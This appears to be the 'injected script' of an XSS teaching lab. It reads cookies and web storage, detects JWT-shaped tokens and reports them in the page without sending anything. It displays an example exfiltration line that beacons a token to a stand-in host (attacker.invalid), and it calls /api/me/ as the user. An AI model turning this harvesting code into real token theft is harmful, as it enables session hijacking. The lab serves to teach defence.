// THE "INJECTED SCRIPT" of the XSS lab: it stands for an attacker's script
// that got into a page of this origin. It reads what any page script can
// reach (document.cookie, localStorage, sessionStorage) and reports it in the
// page. It sends nothing away: where it finds a token it only shows the
// request an attacker would make.
(function () {
  "use strict";
  var out = document.getElementById("injected-output");
  if (!out) return;
  var JWT = /^eyJ[\w-]*\.[\w-]+\.[\w-]*$/;

  var cookies = document.cookie ? document.cookie.split(/;\s*/).map(function (pair) {
    var i = pair.indexOf("=");
    return { name: pair.slice(0, i), value: decodeURIComponent(pair.slice(i + 1)) };
  }) : [];
  var stored = [];
  [["localStorage", window.localStorage], ["sessionStorage", window.sessionStorage]].forEach(function (entry) {
    try {
      for (var i = 0; i < entry[1].length; i++) {
        var key = entry[1].key(i);
        stored.push({ where: entry[0], name: key, value: entry[1].getItem(key) });
      }
    } catch (e) { /* storage disabled */ }
  });

  function tokensIn(value) {
    var found = [];
    (String(value).match(/eyJ[\w-]*\.[\w-]+\.[\w-]*/g) || []).forEach(function (t) {
      if (JWT.test(t)) found.push(t);
    });
    return found;
  }
  var tokens = [];
  cookies.forEach(function (c) { tokensIn(c.value).forEach(function (t) { tokens.push({ from: "cookie " + c.name, token: t }); }); });
  stored.forEach(function (s) { tokensIn(s.value).forEach(function (t) { tokens.push({ from: s.where + " " + s.name, token: t }); }); });

  out.textContent = "";
  out.hidden = false;
  out.dataset.cookieNames = cookies.map(function (c) { return c.name; }).sort().join(",");
  out.dataset.tokensFound = String(tokens.length);

  function line(text, cls) {
    var p = document.createElement("p");
    if (cls) p.className = cls;
    p.textContent = text;
    out.appendChild(p);
    return p;
  }
  line("document.cookie: " + (cookies.length ? cookies.map(function (c) { return c.name; }).join(", ") : "(empty)"));
  line("Web storage: " + (stored.length ? stored.map(function (s) {
    return s.where + "[" + s.name + "]";
  }).join(", ") : "(empty)"));
  if (!tokens.length) {
    line("Tokens found: none. No session id, access token or refresh token is readable by script here.", "verdict verdict-refused");
  } else {
    tokens.forEach(function (t) {
      line("TOKEN FOUND in " + t.from + ": " + t.token.slice(0, 24) + "… (" + t.token.length + " characters)", "verdict verdict-accepted");
      var exfil = document.createElement("pre");
      exfil.className = "exfil";
      exfil.textContent = "// what an attacker would run next (not sent):\nnew Image().src = \"https://attacker.invalid/collect?t=\" + encodeURIComponent(token);";
      out.appendChild(exfil);
    });
    line("With it, the attacker calls the API from anywhere (Authorization: Bearer …) until it expires, whatever this page does next.");
  }
  // What it can do without taking anything: act as the user from inside the page.
  fetch("/api/me/", { credentials: "same-origin" }).then(function (r) {
    line("It can still call the API as you from inside this page: GET /api/me/ answered " + r.status +
      (r.ok ? " (it rides on the cookies it cannot read)." : "."));
  }, function () {});
})();
